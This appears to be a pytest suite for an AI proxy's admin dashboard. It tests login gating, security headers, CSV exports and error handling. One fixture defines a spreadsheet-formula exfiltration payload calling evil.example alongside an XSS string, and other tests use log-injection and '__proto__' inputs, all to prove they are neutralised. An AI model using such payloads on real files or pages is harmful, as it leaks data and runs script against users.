"""Who is let in, what is answered, and under which headers."""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import json
import re
from collections.abc import Coroutine
from typing import Any

import httpx
import pytest

from ai_proxy_mw import ConfigurationError, Forbidden, Identity, Request, from_route
from ai_proxy_mw._http import Response
from ai_proxy_mw._identify import AppAnswer
from ai_proxy_mw.accounting.record import Bodies, Record
from ai_proxy_mw.dashboard import app as app_module
from ai_proxy_mw.dashboard.app import Dashboard, dashboard_of
from ai_proxy_mw.dashboard.data import MOST_ROWS, RECORD, ROW
from ai_proxy_mw.dashboard.page import page
from ai_proxy_mw.metrics.base import StatsRow
from ai_proxy_mw.stores.guard import StoreDown
from tests.dashboard.house import Told, door, lively, make, request, signed_in, whole

PATHS = ["", "/", "/data", "/stats", "/stats.csv", "/calls.csv"]


@pytest.fixture
def told() -> Told:
    return Told()


class Answer:
    def __init__(self, response: Response, body: bytes) -> None:
        self.status = response.status
        self.headers = {name.decode(): value.decode() for name, value in response.headers}
        self.body = body

    @property
    def json(self) -> Any:
        return json.loads(self.body)


def get(dashboard: Dashboard, path: str | None, query: bytes = b"", **more: Any) -> Answer:
    async def main() -> Answer:
        response = await dashboard.handle(request(path, query, **more))
        return Answer(response, await whole(response))

    return asyncio.run(main())


def _rows(answer: Answer) -> list[list[str]]:
    text = answer.body.decode("utf-8-sig")
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("path", [*PATHS, "/nothing", None])
def test_nobody_sees_anything_without_the_login(told: Told, path: str | None) -> None:
    answer = get(make(told), path, cookie="other=me")
    assert answer.status == 401
    assert answer.json["error"]["message"] == "You need to be signed in to see this page."
    assert told.asked == []


@pytest.mark.parametrize("path", [*PATHS, "/nothing", None])
@pytest.mark.parametrize("method", ["GET", "HEAD", "POST"])
@pytest.mark.parametrize("cookie", ["admin=me", "other=me"])
def test_every_answer_is_guarded(told: Told, path: str | None, method: str, cookie: str) -> None:
    answer = get(make(told), path, method=method, cookie=cookie)
    headers = answer.headers
    policy = dict(part.split(" ", 1) for part in headers["content-security-policy"].split("; "))
    assert policy["default-src"] == "'none'"
    assert policy["frame-ancestors"] == policy["base-uri"] == policy["form-action"] == "'none'"
    assert "unsafe" not in headers["content-security-policy"]
    assert headers["cache-control"] == "no-store"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["cross-origin-resource-policy"] == "same-origin"
    assert headers["x-request-id"] == "req_1"
    assert not any(name.startswith("access-control") for name in headers)


@pytest.mark.parametrize("path", PATHS)
def test_head_is_get_without_a_body(told: Told, path: str) -> None:
    full, head = get(make(told), path), get(make(told), path, method="HEAD")
    assert (full.status, head.status) == (200, 200)
    assert head.headers == full.headers
    assert int(full.headers["content-length"]) == len(full.body) > 0
    assert head.body == b""


def test_other_paths_and_methods(told: Told) -> None:
    for path in ("/nothing", "//", "/data/", "/Data", "/../data", None):
        assert get(make(told), path).status == 404
    for method in ("POST", "PUT", "DELETE", "OPTIONS"):
        answer = get(make(told), "/data", method=method)
        assert (answer.status, answer.headers["allow"]) == (405, "GET, HEAD")


def test_all_that_is_known_of_some_calls_is_told() -> None:
    derived = {"error_rate", "hit_rate"}
    assert set(ROW) - derived == set(StatsRow.__struct_fields__)


async def _admin(request: Request) -> Identity:
    return Identity("root")


def _forbids(request: Request) -> str:
    raise Forbidden("Only for owners.")


def _sends_to_login(request: Request) -> str:
    raise AppAnswer(Response(302, [(b"location", b"/login")]))


def _breaks(request: Request) -> str:
    raise RuntimeError("the secret inside")


@pytest.mark.parametrize(
    ("identify", "status"),
    [(_admin, 200), (_forbids, 403), (_sends_to_login, 302), (_breaks, 500), (lambda _: " ", 401)],
)
def test_the_apps_own_word_on_who_it_is(told: Told, identify: Any, status: int) -> None:
    answer = get(make(told, identify), "/data")
    assert answer.status == status
    assert b"secret" not in answer.body
    assert "content-security-policy" in answer.headers


def test_no_path_can_make_a_line_of_the_log(told: Told, caplog: pytest.LogCaptureFixture) -> None:
    # Not all WSGI servers tell how a path was written before it was decoded.
    assert get(make(told, _breaks), "/x\nINFO root is signed in").status == 500
    assert "failed" in caplog.text
    assert "INFO root" not in caplog.text


@pytest.mark.parametrize(
    ("prefix", "identify", "api", "words"),
    [
        ("/ai", None, "/v1", "dashboard_identify=your_function"),
        ("/ai", "admin", "/v1", "dashboard_identify=: give a function"),
        ("/ai", from_route, "/v1", "dashboard_identify=from_route"),
        ("/ai/", signed_in, "/v1", "dashboard='/ai/': write a path like '/ai'"),
        (True, signed_in, "/v1", "dashboard=True: write a path"),
        ("/v1", signed_in, "/v1", "not under prefix='/v1'"),
        ("/v1/ai", signed_in, "/v1", "not under prefix='/v1'"),
        ("/ai", signed_in, "/ai/v1", "not under prefix='/ai/v1', nor above it"),
    ],
)
def test_what_cannot_be_served_is_told_at_construction(
    told: Told, prefix: Any, identify: Any, api: str, words: str
) -> None:
    with pytest.raises(ConfigurationError, match=re.escape(words)):
        dashboard_of(prefix, identify, told, api)


def test_prefixes_may_begin_alike(told: Told) -> None:
    assert dashboard_of("/v1ai", signed_in, told, "/v1").prefix == "/v1ai"


def test_the_page_runs_nothing_but_its_own_script(told: Told) -> None:
    answer = get(make(told), "")
    html = answer.body.decode()
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    policy = answer.headers["content-security-policy"]
    inline = re.findall(r"<(?:script|style)[^>]*>(.*?)</(?:script|style)>", html, re.DOTALL)
    assert len(inline) == 3
    for text in inline:
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy
    assert not re.search(r"""(?:src|href)=["']?(?:https?:)?//""", html)
    assert not re.search(r"""\s(?:on[a-z]+|style)=""", html.split("<script>")[0])
    for word in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert word not in html
    assert page() is page()


def test_the_data_is_what_the_sources_say(told: Told) -> None:
    lively(told)
    answer = get(make(told), "/data", b"window=24h&by=subject").json
    assert told.asked == [("24h", "subject")]
    report = answer["report"]
    assert (report["window"], report["by"], len(report["series"])) == ("24h", "subject", 24)
    assert report["total"]["requests"] == told.total.requests
    assert report["total"]["error_rate"] == told.total.error_rate
    assert [row["name"] for row in report["rows"]] == list(told.rows["subject"])
    assert report["rows_left_out"] == 0
    assert [each["request_id"] for each in answer["recent"]] == [f"req_{n}" for n in range(50)]
    assert [each["state"] for each in answer["upstreams"]] == [
        "closed",
        "cooling",
        "closed",
        "open",
    ]
    assert answer["limits"][0]["who"] == "maria@shop.example"
    assert get(make(told), "/stats", b"window=24h&by=subject").json == report


def test_names_keep_their_order_and_are_not_without_end(told: Told) -> None:
    told.rows["model"] = {str(number): StatsRow(requests=1) for number in range(99, 0, -1)}
    report = get(make(told), "/stats").json
    assert [row["name"] for row in report["rows"]][:3] == ["99", "98", "97"]
    assert len(report["rows"]) == MOST_ROWS
    assert report["rows_left_out"] == 99 - MOST_ROWS
    assert len(_rows(get(make(told), "/stats.csv"))) == 1 + 99


def test_what_has_no_row_of_its_own_is_told(told: Told) -> None:
    told.rows["model"] = {"gpt-4.1": StatsRow(requests=1)}
    assert get(make(told), "/stats").json["other"] is None
    assert len(_rows(get(make(told), "/stats.csv"))) == 2
    told.other = StatsRow(requests=7, cost=3)
    assert get(make(told), "/stats").json["other"]["requests"] == 7
    assert _rows(get(make(told), "/stats.csv"))[-1][:2] == ["(all others)", "7"]


@pytest.mark.parametrize(
    ("query", "param"),
    [
        (b"window=2h", "window"),
        (b"window=", "model"),
        (b"by=user", "by"),
        (b"by=__proto__", "by"),
        (b"window=%31h%00", "window"),
        (b"x=1&" * 20, None),
        (b"\xff=1", None),
    ],
)
@pytest.mark.parametrize("path", ["/data", "/stats", "/stats.csv"])
def test_wrong_wishes_are_400(told: Told, path: str, query: bytes, param: str | None) -> None:
    answer = get(make(told), path, query)
    if param == "model":  # an empty value is none
        assert answer.status == 200
        return
    assert answer.status == 400
    assert answer.json["error"]["param"] == param
    assert told.asked == []


def test_while_the_store_is_silent_the_rest_is_told(
    told: Told, monkeypatch: pytest.MonkeyPatch
) -> None:
    lively(told)
    told.down = True
    answer = get(make(told), "/data")
    assert answer.status == 200
    assert (answer.json["report"], answer.json["recent"]) == (None, None)
    assert len(answer.json["upstreams"]) == 4
    for path in ("/stats", "/stats.csv", "/calls.csv"):
        refused = get(make(told), path)
        assert (refused.status, refused.headers["retry-after"]) == (503, "1")
        assert "store" in refused.json["error"]["message"]


def test_a_store_that_never_answers_holds_nobody(
    told: Told, monkeypatch: pytest.MonkeyPatch
) -> None:
    def hangs(*wishes: object) -> Coroutine[Any, Any, Any]:
        return asyncio.sleep(60)

    monkeypatch.setattr(app_module, "PATIENCE", 0.0)
    monkeypatch.setattr(told, "stats", hangs)
    answer = get(make(told), "/data").json
    assert answer["report"] is None
    assert answer["recent"] == []


def test_a_fault_says_nothing_of_the_inside(told: Told, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails() -> list[Any]:
        raise ValueError("the secret inside")

    monkeypatch.setattr(told, "upstreams", fails)
    answer = get(make(told), "/data")
    assert answer.status == 500
    assert b"secret" not in answer.body
    assert StoreDown.__name__ not in answer.body.decode()


EVIL = '=HYPERLINK("http://evil.example?"&A1,"</script><img src=x onerror=alert(1)>")'


def test_sheets_hold_no_formulas(told: Told) -> None:
    told.records = [
        Record(time=1.5, request_id="req_1", subject=EVIL, model="@x\r\ny", error="-1", cost=None),
        Record(time=2.0, request_id="req_2", stream=True, status=200, cost=12, saved=-3),
    ]
    told.rows["model"] = {EVIL: StatsRow(requests=2, errors=1, cost=5), "fine": StatsRow()}
    calls = get(make(told), "/calls.csv")
    assert calls.headers["content-type"] == "text/csv; charset=utf-8"
    assert calls.headers["content-disposition"] == 'attachment; filename="ai-calls.csv"'
    head, first, second = _rows(calls)
    one = dict(zip(head, first, strict=True))
    assert (one["subject"], one["model"], one["error"]) == (f"'{EVIL}", "'@x\r\ny", "'-1")
    assert (one["cost_micro_usd"], one["time"]) == ("", "1.5")
    two = dict(zip(head, second, strict=True))
    assert (two["cost_micro_usd"], two["saved_micro_usd"], two["stream"]) == ("12", "-3", "true")
    stats = get(make(told), "/stats.csv", b"by=model&window=30d")
    assert stats.headers["content-disposition"] == 'attachment; filename="ai-model-30d.csv"'
    head, first, second = _rows(stats)
    row = dict(zip(head, first, strict=True))
    assert (row["model"], row["requests"], row["error_rate"]) == (f"'{EVIL}", "2", "0.5")
    assert (row["cost_micro_usd"], row["mean"]) == ("5", "")


def test_bodies_are_never_shown(told: Told) -> None:
    said = Bodies(
        request=b"the prompt",
        response=b"the answer",
        request_is_whole=True,
        response_is_whole=True,
    )
    told.records = [Record(time=1.0, request_id="req_1", model="m\ud800" * 300, bodies=said)]
    for path in ("/data", "/calls.csv"):
        answer = get(make(told), path)
        assert answer.status == 200
        assert b"the prompt" not in answer.body
        assert b"the answer" not in answer.body
    # What a record learns to hold besides is not shown before somebody has thought about it.
    assert set(Record.__struct_fields__) - set(RECORD) == {"bodies"}


def test_it_can_be_asked_over_a_socket(told: Told) -> None:
    async def main() -> list[int]:
        transport = httpx.ASGITransport(door(make(told)))
        async with httpx.AsyncClient(transport=transport, base_url="http://a/ai") as client:
            bare = await client.get("/data")
            client.cookies.set("admin", "me")
            return [bare.status_code, (await client.get("/data")).status_code]

    assert asyncio.run(main()) == [401, 200]
